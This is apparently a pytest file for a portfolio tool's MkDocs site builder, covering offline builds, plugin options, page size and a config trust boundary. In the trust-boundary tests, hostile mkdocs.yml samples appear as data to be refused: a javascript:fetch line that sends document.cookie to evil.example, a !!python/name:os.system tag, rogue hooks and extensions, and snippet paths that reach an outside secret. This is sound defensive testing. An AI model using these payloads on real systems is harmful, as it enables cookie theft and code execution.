"""Real `mkdocs build --strict` runs, offline: the test portfolio, the sample portfolio, the repo docs, the plugin.

Every built HTML, CSS and JS file is scanned for references to other hosts; Material's privacy plugin, in
report-only mode (it fetches nothing), must agree.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import ROOT, SAMPLE, run_cli
from tests.site.kit import AS_OF, DORMANT_JS_HOSTS, PORTFOLIO, QUIET, scan_site, user_urls

pytestmark = pytest.mark.slow


def mkdocs(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "mkdocs", *args],
        cwd=cwd,
        env={**os.environ, **QUIET},
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )


def assert_offline(site: Path, *sources: Path) -> None:
    """No built file loads from another host; links to other hosts only where the sources wrote them."""
    report = scan_site(site, set().union(*(user_urls(s) for s in sources)))
    assert report.pages > 5
    assert report.problems == []
    assert report.js_hosts <= set(DORMANT_JS_HOSTS), report.js_hosts - set(DORMANT_JS_HOSTS)
    # the dormant ones stay dormant: no mermaid diagram, no repository widget
    for page in site.rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert 'class="mermaid"' not in text and "md-source" not in text, page


def test_test_portfolio_site_builds_strict_and_offline(built_site: Path) -> None:
    assert (built_site / "index.html").is_file() and (built_site / "projects" / "hostile" / "index.html").is_file()
    assert (built_site / "data.json").is_file()
    assert_offline(built_site, PORTFOLIO)
    page = (built_site / "projects" / "crm-migration" / "index.html").read_text(encoding="utf-8")
    assert 'href="https://wiki.example.org/crm"' in page.replace("&#58;", ":").replace("&#47;", "/").replace(
        "&#46;", "."
    )


def test_hostile_text_is_text_in_the_built_html(built_site: Path) -> None:
    page = (built_site / "projects" / "hostile" / "index.html").read_text(encoding="utf-8")
    assert "<script>document" not in page and "<img src=x" not in page and "<iframe" not in page
    assert not re.search(r"<[^>]+\son[a-z]+=", page.split("</header>", 1)[1]), "an event handler attribute"
    assert 'href="javascript' not in page.lower()
    title = re.search(r"<title>(.*?)</title>", page, re.S)
    assert title and "<" not in title.group(1) and "&lt;" not in title.group(1)


def test_sample_portfolio_site_builds_strict_and_offline(tmp_path: Path) -> None:
    out = tmp_path / "site"
    res = run_cli("site", "build", str(SAMPLE), "--out", str(out), "--as-of", AS_OF, env=QUIET, timeout=600)
    assert res.code == 0, res.err
    assert_offline(out, SAMPLE)


def test_repo_docs_build_strict_and_offline(tmp_path: Path) -> None:
    out = tmp_path / "site"
    proc = mkdocs("build", "--strict", "-d", str(out), cwd=ROOT)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert (out / "usage" / "index.html").is_file()
    assert (out / "rules" / "pmo001" / "index.html").is_file()  # generated from the rules' docs at build time
    assert (out / "sample" / "index.html").is_file() and (out / "sample" / "projects").is_dir()
    assert not (ROOT / "docs" / "rules").exists() and not (ROOT / "docs" / "sample").exists()  # nothing committed
    for name in ("pr-mode", "ci-formats", "pre-commit", "editor", "security", "performance"):
        if (ROOT / "docs" / f"{name}.md").is_file():
            assert (out / name / "index.html").is_file(), f"{name}.md is not in the built site"
    assert_offline(out, SAMPLE, ROOT / "docs")  # the guide's own links to other sites are allowed as links


def write_project(root: Path, plugin: str) -> Path:
    shutil.copytree(PORTFOLIO, root / "portfolio", ignore=shutil.ignore_patterns(".pmo-lint-cache"))
    (root / "docs").mkdir()
    (root / "docs" / "index.md").write_text("# Home\n\n[Portfolio](portfolio/index.md)\n", encoding="utf-8")
    config = (
        "site_name: t\ntheme: {name: material, font: false}\nextra: {generator: false}\n"
        "validation: {omitted_files: warn, absolute_links: warn, unrecognized_links: warn, anchors: warn}\n"
        f"plugins:\n  - search\n{plugin}"
    )
    (root / "mkdocs.yml").write_text(config, encoding="utf-8")
    return root


def test_plugin_generates_under_a_prefix_with_chosen_sections(tmp_path: Path) -> None:
    root = write_project(
        tmp_path,
        "  - pmo-lint:\n      portfolio: portfolio\n      prefix: portfolio\n      as_of: '2025-06-30'\n"
        "      sections: [dashboard, risks, projects]\n",
    )
    proc = mkdocs("build", "--strict", cwd=root)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert (root / "site" / "portfolio" / "risks" / "index.html").is_file()
    assert not (root / "site" / "portfolio" / "roadmap").exists()
    assert "generated 7 file(s)" in proc.stderr  # 6 pages and data.json
    # the sections are in the navigation, the projects are not (no `nav:` here: MkDocs builds it from the files)
    home = (root / "site" / "index.html").read_text(encoding="utf-8")
    assert 'href="portfolio/risks/"' in home and "crm-migration" not in home


def test_plugin_errors_name_the_file(tmp_path: Path) -> None:
    root = write_project(tmp_path, "  - pmo-lint:\n      portfolio: nowhere\n")
    proc = mkdocs("build", cwd=root)
    assert proc.returncode != 0 and "nowhere: no such file or folder" in proc.stderr
    assert "Traceback" not in proc.stderr
    (root / "mkdocs.yml").write_text(
        (root / "mkdocs.yml").read_text(encoding="utf-8").replace("nowhere", "portfolio\n      as_of: someday"),
        encoding="utf-8",
    )
    proc = mkdocs("build", cwd=root)
    assert proc.returncode != 0 and "as_of 'someday'" in proc.stderr and "mkdocs.yml" in proc.stderr
    # the same one date form as every command's --as-of: 20250630 is refused here too
    text = (root / "mkdocs.yml").read_text(encoding="utf-8")
    (root / "mkdocs.yml").write_text(text.replace("as_of: someday", "as_of: '20250630'"), encoding="utf-8")
    proc = mkdocs("build", cwd=root)
    assert proc.returncode != 0 and "as_of '20250630'" in proc.stderr and "Traceback" not in proc.stderr


def test_site_build_uses_the_portfolios_own_mkdocs_yml(tmp_path: Path) -> None:
    root = tmp_path / "p"
    shutil.copytree(PORTFOLIO, root, ignore=shutil.ignore_patterns(".pmo-lint-cache"))
    own = "site_name: own\ndocs_dir: site-docs\ntheme: {name: material, font: false}\n"
    own += "plugins:\n  - search\n  - pmo-lint\n"
    (root / "mkdocs.yml").write_text(own, encoding="utf-8")
    (root / "site-docs").mkdir()
    out = tmp_path / "out"
    res = run_cli("site", "build", str(root), "--out", str(out), "--as-of", AS_OF, env=QUIET, timeout=600)
    assert res.code == 0, res.err
    assert "Portfolio as of 2025-06-30" in (out / "index.html").read_text(encoding="utf-8")


def test_privacy_plugin_in_report_mode_finds_only_materials_dormant_mermaid(tmp_path: Path) -> None:
    root = write_project(
        tmp_path,
        "  - privacy:\n      assets_fetch: false\n      log_level: warn\n"
        "  - pmo-lint:\n      portfolio: portfolio\n      prefix: portfolio\n      as_of: '2025-06-30'\n",
    )
    proc = mkdocs("build", cwd=root)
    assert proc.returncode == 0, proc.stderr[-3000:]
    external = [line for line in proc.stderr.splitlines() if "External file" in line]
    assert external, "the privacy plugin reported nothing: is it still running?"
    for line in external:
        assert "unpkg.com/mermaid" in line and "assets/javascripts/bundle" in line, line


# -- the trust boundary (issue: a pull request's mkdocs.yml must not run code or publish outside files) --


def _all_bytes(folder: Path) -> bytes:
    return b"".join(p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file())


def _hostile_repository(tmp_path: Path, config: str) -> tuple[Path, Path, Path]:
    """A portfolio with a mkdocs.yml, code a build must never run and a secret outside the repository."""
    canary = tmp_path / "CANARY"
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-7f3a9c\n", encoding="utf-8")
    root = tmp_path / "repo"
    shutil.copytree(PORTFOLIO, root, ignore=shutil.ignore_patterns(".pmo-lint-cache"))
    (root / "site-docs").mkdir()
    (root / "site-docs" / "index.md").write_text(
        f'# Home\n\n--8<-- "../secret.txt"\n\n--8<-- "{secret}"\n\n--8<-- "../../secret.txt"\n', encoding="utf-8"
    )
    write_canary = f"open({str(canary)!r}, 'w').write('ran')\n"
    (root / "hooks").mkdir()
    (root / "hooks" / "publish.py").write_text(write_canary, encoding="utf-8")
    # modules that would shadow MkDocs or an extension if the repository were on the import path
    for package in ("mkdocs", "pymdownx", "material"):
        (root / package).mkdir()
        (root / package / "__init__.py").write_text(write_canary, encoding="utf-8")
        (root / package / "__main__.py").write_text(write_canary, encoding="utf-8")
    (root / "evil_ext.py").write_text(write_canary, encoding="utf-8")
    (root / "mkdocs.yml").write_text(config, encoding="utf-8")
    return root, canary, secret


_BASE_CONFIG = (
    "site_name: t\ndocs_dir: site-docs\ntheme: {name: material, font: false}\nextra: {generator: false}\n"
    "plugins:\n  - search\n  - pmo-lint: {prefix: portfolio}\n"
)


@pytest.mark.parametrize(
    "extra",
    [
        "hooks:\n  - hooks/publish.py\n",
        "markdown_extensions:\n  - evil_ext\n",
        "markdown_extensions:\n  - pymdownx.snippets:\n      restrict_base_path: false\n      base_path: [/, ..]\n",
        "extra_javascript:\n  - \"javascript:fetch('https://evil.example/'+document.cookie)\"\n",
        "extra:\n  social:\n    - {icon: fontawesome/brands/github, link: 'javascript:alert(1)'}\n",
        "copyright: !ENV [HOME, x]\n",
        "markdown_extensions:\n  - pymdownx.superfences:\n      custom_fences:\n        - name: x\n"
        "          class: x\n          format: !!python/name:os.system\n",
    ],
)
def test_hostile_mkdocs_yml_is_refused_before_anything_runs(tmp_path: Path, extra: str) -> None:
    root, canary, _ = _hostile_repository(tmp_path, _BASE_CONFIG + extra)
    out = tmp_path / "out"
    res = run_cli("site", "build", str(root), "--out", str(out), "--as-of", AS_OF, cwd=root, env=QUIET, timeout=600)
    assert res.code == 2, res.err
    assert f"{root / 'mkdocs.yml'}:" in res.err and "--trust-config" in res.err
    assert "Traceback" not in res.err and "internal error" not in res.err
    assert not canary.exists() and not out.exists()


def test_allowed_mkdocs_yml_builds_without_running_or_publishing_anything_else(tmp_path: Path) -> None:
    """What passes the check builds, started from inside the repository (where its modules would shadow
    MkDocs' if the repository were on the import path), and restricted snippets stay inside it."""
    config = _BASE_CONFIG + "markdown_extensions:\n  - pymdownx.snippets:\n      base_path: [site-docs]\n"
    root, canary, secret = _hostile_repository(tmp_path, config)
    out = tmp_path / "out"
    res = run_cli("site", "build", str(root), "--out", str(out), "--as-of", AS_OF, cwd=root, env=QUIET, timeout=600)
    assert res.code == 0, res.err
    assert (out / "portfolio" / "index.html").is_file()
    assert not canary.exists()
    built = _all_bytes(out)
    assert b"TOPSECRET-7f3a9c" not in built and secret.read_bytes().strip() not in built
    # no element of any page carries a script address (the hostile portfolio's text shows escaped, as text)
    pages = b"".join(p.read_bytes() for p in out.rglob("*.html"))
    assert not re.search(rb"""<[a-zA-Z][^<>]*\s(?:href|src)\s*=\s*["']?\s*javascript:""", pages, re.IGNORECASE)


def test_trust_config_runs_the_repositorys_hooks(tmp_path: Path) -> None:
    """--trust-config is the explicit way back to MkDocs' own behaviour (for a trusted main branch)."""
    root, canary, _ = _hostile_repository(tmp_path, _BASE_CONFIG + "hooks:\n  - hooks/publish.py\n")
    (root / "site-docs" / "index.md").write_text("# Home\n", encoding="utf-8")
    res = run_cli(
        "site",
        "build",
        str(root),
        "--out",
        str(tmp_path / "out"),
        "--as-of",
        AS_OF,
        "--trust-config",
        env=QUIET,
        timeout=600,
    )
    assert res.code == 0, res.err
    assert canary.read_text(encoding="utf-8") == "ran"


# -- scale: a page's size does not grow with the portfolio --


def _project_pages(site: Path) -> dict[str, int]:
    return {
        p.parent.name: p.stat().st_size
        for p in (site / "projects").glob("*/index.html")
        if "_" not in p.parent.name  # continuation pages of the project list
    }


def test_project_page_size_does_not_grow_with_the_portfolio(tmp_path: Path) -> None:
    from bench.generate import write

    sizes: dict[int, dict[str, int]] = {}
    for count in (100, 800):
        root = tmp_path / f"p{count}"
        write(root, count, 7)
        out = tmp_path / f"site{count}"
        res = run_cli("site", "build", str(root), "--out", str(out), "--as-of", AS_OF, env=QUIET, timeout=900)
        assert res.code == 0, res.err
        sizes[count] = _project_pages(out)
        assert len(sizes[count]) == count
        page = next(iter(sorted((out / "projects").glob("*/index.html")))).read_text(encoding="utf-8")
        # the navigation holds the sections, not the projects
        assert len(re.findall(r'href="\.\./[a-z0-9-]+/"', page)) < 20
    small = sum(sizes[100].values()) / len(sizes[100])
    large = sum(sizes[800].values()) / len(sizes[800])
    assert large < small * 1.15, (small, large)  # before: 49 KB against 234 KB
    common = sorted(set(sizes[100]) & set(sizes[800]))[:20]
    assert common
    for name in common:  # the same project's page, within the noise of its own data
        assert sizes[800][name] < sizes[100][name] * 1.3 + 4000, name
    for page in (tmp_path / "site800").rglob("*.html"):
        assert page.stat().st_size < 400_000, page  # every page, the dashboard and registers too
